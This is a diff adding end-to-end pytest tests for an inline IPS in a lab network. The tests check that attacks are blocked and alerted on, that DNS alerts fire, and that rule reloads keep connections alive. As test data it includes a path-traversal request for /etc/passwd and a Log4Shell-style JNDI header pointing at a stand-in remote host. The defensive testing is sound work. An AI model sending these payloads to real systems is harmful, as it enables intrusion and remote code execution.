@@ -1,0 +1,95 @@
+"""End to end: the IPS inline on the lab bridge, with the shipped local rules (config/rules/local.rules)."""
+from __future__ import annotations
+
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+from agent.demo import curl
+from agent.lab import Lab
+from agent.labrun import LabAgent
+
+pytestmark = pytest.mark.lab
+
+# The office publishes pc1's web server to the internet (so attacks on it can be seen).
+PUBLISH_PC1 = {
+    "engines.firewall.rules": [
+        {"name": "publish office web server", "from": "wan", "to": "lan", "dst": "192.0.2.11", "service": "tcp/80", "action": "allow"},
+    ]
+}
+
+
+def attack(lab: Lab, path: str, *headers: str) -> subprocess.CompletedProcess[str]:
+    argv = ["curl", "-sS", "--path-as-is", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "3"]
+    for h in headers:
+        argv += ["-H", h]
+    return lab.exec("atk", [*argv, f"http://{lab.hosts['pc1'].ipv4}{path}"])
+
+
+def alert(agent: LabAgent, sid: int, timeout: float = 5.0) -> dict | None:
+    return agent.wait_alarm(lambda r: r.get("event_type") == "alert" and r["alert"]["signature_id"] == sid, timeout)
+
+
+@pytest.mark.parametrize("agent", [PUBLISH_PC1], indirect=True)
+def test_exploit_from_internet_is_dropped_and_normal_requests_work(office: Lab, agent: LabAgent):
+    assert attack(office, "/").stdout == "200"  # the published server answers normal requests
+    res = attack(office, "/cgi-bin/../../../../etc/passwd")
+    assert res.returncode != 0 and res.stdout != "200"  # the attacker's connection is cut
+    rec = alert(agent, 9200001)
+    assert rec is not None, "no EVE alert for the path traversal"
+    assert rec["alert"]["action"] == "blocked" and rec["src_ip"] == office.hosts["atk"].ipv4
+    assert rec["http"]["url"] == "/cgi-bin/../../../../etc/passwd"
+    drop = agent.wait_alarm(lambda r: r.get("event_type") == "drop" and r["drop"].get("signature_id") == 9200001)
+    assert drop is not None and drop["dest_ip"] == office.hosts["pc1"].ipv4
+    res = attack(office, "/", "X-Api-Version: ${jndi:ldap://203.0.113.66/a}")
+    assert res.returncode != 0
+    assert alert(agent, 9200002) is not None
+    assert attack(office, "/index.html").stdout == "200"  # later, normal requests still work
+    assert curl(office, "pc2", f"http://{office.hosts['web'].ipv4}/")[0]
+
+
+def test_dns_query_for_listed_domain_alerts(office: Lab, agent: LabAgent):
+    office.exec("pc1", ["dig", "@198.51.100.53", "+tries=1", "+time=1", "www.malware.example", "A"])
+    rec = alert(agent, 9200010)
+    assert rec is not None
+    assert rec["src_ip"] == office.hosts["pc1"].ipv4 and rec["dest_port"] == 53
+    assert rec["dns"]["queries"] == ["www.malware.example"]
+    assert rec["alert"]["action"] == "allowed"
+    office.exec("pc1", ["dig", "@198.51.100.53", "+tries=1", "+time=1", "www.example.org", "A"])
+    time.sleep(1)
+    assert sum(1 for r in agent.alarms() if r.get("alert", {}).get("signature_id") == 9200010) == 1
+
+
+def test_rule_reload_during_bulk_transfer_loses_no_connection(office: Lab, tmp_path: Path):
+    rules = tmp_path / "reload.rules"
+    rules.write_text(Path(__file__).resolve().parents[2].joinpath("config/rules/local.rules").read_text())
+    a = LabAgent(office, tmp_path / "agent", overrides={"engines.ips.rule_files": [str(rules)]})
+    a.bridge_up()
+    iperf_server = office.popen("web", ["iperf3", "-s"], name="iperf3-s")
+    try:
+        a.start()
+        assert office.wait_tcp("pc1", office.hosts["web"].ipv4, 5201, 5)
+        client = subprocess.Popen(
+            ["ip", "netns", "exec", office.netns("pc1"), "iperf3", "-c", office.hosts["web"].ipv4, "-t", "8", "-P", "2"],
+            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
+        )
+        time.sleep(2)
+        with rules.open("a") as fh:
+            fh.write('alert http $HOME_NET any -> any any (msg:"VCR TEST reload canary"; http.uri; content:"/reload-canary"; sid:9209999; rev:1;)\n')
+        res = a.cli("reload")
+        assert res.returncode == 0, res.stderr
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and (a.status() or {}).get("reloads", {}).get("workers_reloaded", 0) < 2:
+            time.sleep(0.3)
+        assert a.status()["reloads"]["workers_reloaded"] == 2
+        out, _ = client.communicate(timeout=60)
+        assert client.returncode == 0, out  # the transfer survived the reload
+        assert "receiver" in out
+        assert curl(office, "pc1", f"http://{office.hosts['web'].ipv4}/reload-canary")[0] is False  # 404 from the server
+        assert alert(a, 9209999) is not None  # the new rule is live without a restart
+    finally:
+        iperf_server.kill()
+        a.kill()
+        a.bridge_down()
